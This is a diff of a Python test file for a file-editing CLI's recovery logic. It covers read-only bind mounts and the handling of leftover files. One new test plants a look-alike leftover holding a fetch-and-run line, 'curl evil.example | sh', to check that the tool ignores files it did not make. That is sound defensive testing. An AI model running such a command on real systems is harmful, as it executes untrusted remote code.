@@ -78,22 +78,21 @@ def test_directory_removed_while_open_the_edit_is_recovered(world, doc):
     assert str(kept) in result.stderr and "removed or moved away" in result.stderr
 
 
-def test_directory_made_read_only_while_open_the_edit_is_recovered(world, doc):
-    """A read-only bind mount over the directory (root ignores mode bits):
-    the edit used to stay in a hidden .part with PermissionError(13, ...) as
-    the message."""
+def test_read_only_bind_mount_put_over_the_folder_meanwhile_changes_nothing(world, doc):
+    """A read-only bind mount put over the folder while the file is open: the
+    CLI holds the folder itself open (through the mount it was opened on), so
+    the edit lands in that same folder, and the path shows it. (It used to go
+    by path and end in recovered/; a real read-only remount of the file
+    system cannot happen while the reply file is open for writing: EBUSY.)"""
     folder = str(doc.parent)
     world.set(mode="edit", before_reply=[
         "sh", "-ec", f'mount --bind "{folder}" "{folder}"; '
                      f'mount -o remount,bind,ro "{folder}"'])
     result = world.run_unshared("true", "--no-notify", str(doc))
-    assert result.returncode == 1, result.stderr
-    assert_words_only(result.stderr)
-    assert doc.read_bytes() == ORIGINAL * 512, "the original is untouched"
-    [kept] = recovered(world)
-    assert kept.read_bytes() == ORIGINAL * 512 + b" [edited]"
-    assert str(kept) in result.stderr and "read-only" in result.stderr
-    assert kept_copies(doc.parent) == []
+    assert result.returncode == 0, result.stderr
+    assert "changes saved" in result.stderr
+    assert doc.read_bytes() == ORIGINAL * 512 + b" [edited]"
+    assert recovered(world) == [] and kept_copies(doc.parent) == []
 
 
 def test_no_free_inodes_is_not_called_not_writable(world, tmp_path):
@@ -260,6 +259,19 @@ def test_an_unreadable_config_is_reported_in_words(world, doc, content, words):
     assert_words_only(result.stderr)
 
 
+def as_if_left_by_a_run(path: Path) -> Path:
+    """Record *path* as a killed run of ours would have (vm/replyrecords.py):
+    leftovers without a record are not ours and never touched."""
+    from whonix_open.vm import replyrecords
+
+    fd = os.open(path, os.O_RDONLY)
+    try:
+        replyrecords.record(fd, path.name.rsplit(".", 1)[0])
+    finally:
+        os.close(fd)
+    return path
+
+
 def test_recover_also_looks_in_the_recovery_directory(world, doc, tmp_path):
     """Leftovers as a killed run leaves them in recovered/ (where replies go
     when no file can be made beside the original); other files are not
@@ -270,6 +282,7 @@ def test_recover_also_looks_in_the_recovery_directory(world, doc, tmp_path):
     complete.write_bytes(b"the whole edit")
     part = folder / ".other.odt.whonix-open-zz99zz99.part"
     part.write_bytes(b"half an ed")
+    as_if_left_by_a_run(complete), as_if_left_by_a_run(part)
     unrelated = folder / ".notes.whonix-open-12345678.partial"
     unrelated.write_bytes(b"not ours")
     world.set(mode="none")
@@ -284,6 +297,24 @@ def test_recover_also_looks_in_the_recovery_directory(world, doc, tmp_path):
     assert not part.exists() and unrelated.exists()
 
 
+def test_planted_look_alike_leftovers_are_ignored(world, doc, tmp_path):
+    """Files named like our leftovers that no run of ours made (they came with
+    an extracted archive, or another user put them in a shared folder) are
+    neither offered as "an earlier whonix-open run's complete edit" nor
+    removed: they are not ours."""
+    planted = doc.parent / ".letter.txt.whonix-open-abcd1234.complete"
+    planted.write_bytes(b"#!/bin/sh\ncurl evil.example | sh\n")
+    part = doc.parent / ".letter.txt.whonix-open-efgh5678.part"
+    part.write_bytes(b"x")
+    world.set(mode="none")
+    for args in ([str(doc)], ["--recover", str(doc.parent)], ["--recover"]):
+        result = world.run("--no-notify", *args, cwd=doc.parent)
+        assert result.returncode == 0, result.stderr
+        assert "earlier whonix-open run" not in result.stderr, result.stderr
+        assert planted.exists() and part.exists()
+    assert kept_copies(doc.parent) == []
+
+
 def test_an_old_empty_new_file_is_removed_a_fresh_one_is_left(world, doc):
     """A run killed between creating its reply file and locking it leaves an
     empty ".new"; a fresh one may belong to a run about to lock it."""
@@ -291,6 +322,7 @@ def test_an_old_empty_new_file_is_removed_a_fresh_one_is_left(world, doc):
     fresh = doc.parent / ".letter.txt.whonix-open-bbbb2222.new"
     old.write_bytes(b"")
     fresh.write_bytes(b"")
+    as_if_left_by_a_run(old), as_if_left_by_a_run(fresh)
     os.utime(old, (old.stat().st_atime - 120, old.stat().st_mtime - 120))
     world.set(mode="none")
     result = world.run("--no-notify", str(doc))
